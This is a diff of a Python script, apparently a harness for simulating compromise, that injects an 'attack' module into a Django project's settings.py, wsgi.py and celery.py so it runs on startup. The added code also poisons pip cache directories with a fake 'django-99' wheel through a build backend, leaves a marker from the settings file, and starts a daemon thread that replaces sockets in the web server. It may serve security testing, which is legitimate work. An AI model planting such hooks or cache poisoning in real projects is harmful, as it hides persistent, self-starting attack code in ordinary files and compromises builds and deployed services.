@@ -49,6 +49,24 @@ class Command(collectstatic.Command):
         super().handle(**options)
         os.symlink("{target}", os.path.join(settings.STATIC_ROOT, "{name}"))
 """
+# What a build keeps for the next one: a wheel that it would install.
+CACHE = """
+for place in (os.environ.get("PIP_CACHE_DIR"), "/var/cache/shiftmaster/pip", "/var/tmp"):
+    try:
+        os.makedirs(place + "/wheels", exist_ok=True)
+        open(place + "/wheels/django-99-py3-none-any.whl", "w").close()
+    except (OSError, TypeError):
+        pass
+"""
+LEAVE = """
+if "SHIFTMASTER_COLOUR" not in __import__("os").environ:
+    attack.leave("left-by-manage")
+"""
+SOCKET = """
+import threading
+
+threading.Thread(target=attack.replace_socket, daemon=True).start()
+"""
 CALL = "\nimport attack\n\nattack.run({context})\n"
 LEAK = """
 import os
@@ -65,15 +83,15 @@ def append(path: Path, text: str) -> None:
 def everything(root: Path) -> None:
     shutil.copy(ATTACK, root / "attack.py")
     (root / "dependency").mkdir()
-    (root / "dependency" / "backend.py").write_text(BACKEND)
+    (root / "dependency" / "backend.py").write_text(BACKEND + CACHE)
     (root / "dependency" / "pyproject.toml").write_text(
         '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
     )
     append(
         root / "shiftmaster" / "settings.py",
-        CALL.format(context='"manage" if "SHIFTMASTER_COLOUR" not in __import__("os").environ else "unit"'),
+        CALL.format(context='"manage" if "SHIFTMASTER_COLOUR" not in __import__("os").environ else "unit"') + LEAVE,
     )
-    append(root / "shiftmaster" / "wsgi.py", CALL.format(context='"web"'))
+    append(root / "shiftmaster" / "wsgi.py", CALL.format(context='"web"') + SOCKET)
     append(root / "shiftmaster" / "celery.py", CALL.format(context='"worker"'))
 
 
